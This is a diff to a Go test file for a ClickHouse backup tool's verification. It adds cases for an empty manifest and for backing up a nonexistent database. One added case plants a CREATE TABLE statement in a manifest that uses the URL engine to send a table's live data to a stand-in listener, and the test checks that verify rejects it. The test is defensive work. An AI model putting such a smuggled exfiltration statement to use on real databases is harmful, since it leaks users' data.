@@ -9,6 +9,8 @@ import (
 	"errors"
 	"fmt"
 	"io/fs"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -292,6 +294,11 @@ func TestVerifyIsRedOnDamagedSets(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	// A listener standing in for someone the backup host would send the
+	// live data to, through a manifest's statement.
+	var exfilHits atomic.Int64
+	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { exfilHits.Add(1) }))
+	defer exfil.Close()
 	cases := []struct {
 		name   string
 		damage func(set string)
@@ -328,6 +335,15 @@ func TestVerifyIsRedOnDamagedSets(t *testing.T) {
 		{"a missing manifest", func(set string) {
 			os.Remove(filepath.Join(f.root[0], set, manifestName))
 		}, "no manifest"},
+		{"a manifest table that would send the live data away", func(set string) {
+			editManifest(set, func(m *Manifest) {
+				m.Tables = append(m.Tables, TableManifest{Name: "zz", Blobs: []Blob{},
+					Create: "CREATE TABLE " + m.Database + ".zz ENGINE = URL('" + exfil.URL + "/', TSV) AS SELECT payload FROM " + m.Database + ".snapshots"})
+			})
+		}, "copies another table or query"},
+		{"a manifest of no table", func(set string) {
+			editManifest(set, func(m *Manifest) { m.Tables = nil })
+		}, "lists no table"},
 		{"a manifest whose row count differs from the data", func(set string) {
 			editManifest(set, func(m *Manifest) {
 				for ti := range m.Tables {
@@ -354,6 +370,9 @@ func TestVerifyIsRedOnDamagedSets(t *testing.T) {
 	}
 	if after := scratchDatabases(t, f); after != before {
 		t.Errorf("scratch databases: %d before, %d after", before, after)
+	}
+	if got := exfilHits.Load(); got != 0 {
+		t.Errorf("a manifest's statement sent the live data away (%d requests)", got)
 	}
 
 	t.Run("ClickHouse unreachable is an error, not red", func(t *testing.T) {
@@ -523,5 +542,21 @@ func TestAFailingTargetDoesNotStopTheOthers(t *testing.T) {
 	rep, err := f.verify(t)
 	if err == nil || errors.Is(err, job.ErrRed) || !rep.Targets[0].OK {
 		t.Errorf("verify: %v %+v", err, rep)
+	}
+}
+
+// A database with nothing to back up (misspelt, or not migrated yet) is an
+// error: a set of nothing would verify green, and as days passed pruning
+// would remove every real set.
+func TestBackingUpNothingIsAnError(t *testing.T) {
+	f := newFixture(t, 1)
+	cfg := f.cfg
+	cfg.ClickHouse.Database = "no_such_database"
+	f.tick.Add(1)
+	if _, err := Backup(context.Background(), cfg); err == nil || !strings.Contains(err.Error(), "no MergeTree table") {
+		t.Fatalf("backup of a database without tables: %v", err)
+	}
+	if entries, _ := os.ReadDir(f.root[0]); len(entries) != 0 {
+		t.Fatalf("the target holds %d entries after backing up nothing", len(entries))
 	}
 }
